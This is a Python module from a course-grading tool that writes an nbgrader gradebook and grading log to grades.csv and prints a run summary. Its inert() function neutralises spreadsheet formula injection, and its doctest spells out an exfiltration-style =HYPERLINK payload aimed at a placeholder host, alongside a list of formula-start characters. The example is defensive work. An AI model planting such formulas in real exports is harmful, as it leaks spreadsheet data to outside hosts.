"""What a `course grade` run reports: grades.csv (from the gradebook and the grading log) and the summary it prints."""

from __future__ import annotations

import csv
import os
import warnings
from pathlib import Path
from typing import Any

from .gradebook import gradebook_url
from .outcome import GradeRun, Status


def export_csv(root: Path, path: Path, log: dict[str, dict[str, Any]]) -> Path:
    """grades.csv: one row per student and chapter in the gradebook (the student's name as the gradebook has it,
    per-cell points in columns), with the notes and the fate of the latest submission from the grading log, plus a
    row per logged failure with no grade."""
    from nbgrader.api import Gradebook

    rows: dict[tuple[str, str], dict[str, Any]] = {}
    columns: list[str] = []
    with Gradebook(gradebook_url(root)) as gradebook, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # nbgrader's models warn about autoflush while we only read
        names = {
            student.id: " ".join(part for part in (student.first_name, student.last_name) if part)
            for student in gradebook.students
        }
        for assignment in sorted(gradebook.assignments, key=lambda a: a.name):
            for student_submission in assignment.submissions:
                for notebook in student_submission.notebooks:
                    row = {
                        "student": student_submission.student.id,
                        "chapter": assignment.name,
                        "status": Status.GRADED,
                        "score": notebook.score,
                        "max_score": notebook.max_score,
                        "notes": "",
                    }
                    for grade in sorted(notebook.grades, key=lambda g: g.name):
                        column = f"{assignment.name}:{grade.name}"
                        if column not in columns:
                            columns.append(column)
                        row[column] = grade.score
                    rows[(row["student"], row["chapter"])] = row
    for entry in log.values():
        key = (entry["student"], entry["chapter"])
        if key not in rows:
            if entry["status"] in (Status.FAILED, Status.REGRADE):  # a regrade's reason starts "needs regrading: "
                status = entry["reason"] if entry["status"] == Status.REGRADE else "failed: " + entry["reason"]
                rows[key] = {
                    "student": key[0],
                    "chapter": key[1],
                    "status": status,
                    "score": "",
                    "max_score": "",
                    "notes": f"file: {entry['file']}",
                }
        elif entry["status"] == Status.GRADED:
            rows[key]["notes"] = entry["notes"]
            graded_against = entry.get("max_score")
            if graded_against is not None and float(graded_against) != float(rows[key]["max_score"]):
                rows[key]["status"] = (
                    f"graded against {graded_against:g} points; the chapter now has "
                    f"{float(rows[key]['max_score']):g}: grade it again with --force"
                )
        else:  # graded before; the latest submission could not be graded, so the grade shown is the earlier one
            what = entry["reason"] if entry["status"] == Status.REGRADE else f"failed: {entry['reason']}"
            rows[key]["status"] = f"graded; a later submission ({entry['file']}) {what}"
    path.parent.mkdir(parents=True, exist_ok=True)
    partial = path.with_name(path.name + ".partial")
    with open(partial, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(
            handle, ["student", "name", "chapter", "status", "score", "max_score", *columns, "notes"], restval=""
        )
        writer.writeheader()
        for key in sorted(rows):
            writer.writerow(
                {column: inert(value) for column, value in {**rows[key], "name": names.get(key[0], "")}.items()}
            )
    os.replace(partial, path)  # never half a table, even when the run is stopped while writing it
    return path


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet reads as the start of a formula


def inert(value: Any) -> Any:
    """A CSV cell a spreadsheet shows instead of running: text that starts like a formula gets an apostrophe in
    front (a file named `=HYPERLINK(...)_01.ipynb` would otherwise be a live link in the instructor's sheet).

    >>> print(inert('=HYPERLINK("https://x.example/?" & E3)'))
    '=HYPERLINK("https://x.example/?" & E3)
    >>> inert("alice"), inert(7.5)
    ('alice', 7.5)
    """
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def summary(run: GradeRun) -> str:
    lines = []
    for o in run.outcomes:
        if o.status == Status.GRADED:
            line = f"graded   {o.display}: {o.student}/{o.chapter} {o.score:g}/{o.max_score:g}"
            lines.append(line + (" | " + "; ".join(o.notes) if o.notes else ""))
        else:
            lines.append(f"{o.status:<8} {o.display}: {o.reason}")
    lines += run.notes
    if run.stopped:
        lines.append(
            "stopped (Ctrl-C or SIGTERM) before the end: the submissions graded above are recorded, none was half "
            "recorded, the others were not graded; run the same command again to grade them"
        )
    per_minute = 60 * run.count(Status.GRADED) / run.seconds if run.seconds else 0.0
    if run.count(Status.REGRADE):
        lines.append(
            f"{run.count(Status.REGRADE)} submission(s) need regrading through no fault of their own: run the same "
            "`course grade` again (on a less loaded machine, or with a larger --cell-timeout); a file marked again "
            "on that run is graded as it stands, with the reason in grades.csv"
        )
    lines.append(
        f"graded {run.count(Status.GRADED)}, failed {run.count(Status.FAILED)}, skipped {run.count(Status.SKIPPED)} "
        f"in {run.seconds:.1f} s ({per_minute:.1f} submissions/min, {run.workers} workers)"
        + (f"; gradebook export {run.csv_path}" if run.csv_path else "")
    )
    return "\n".join(lines)
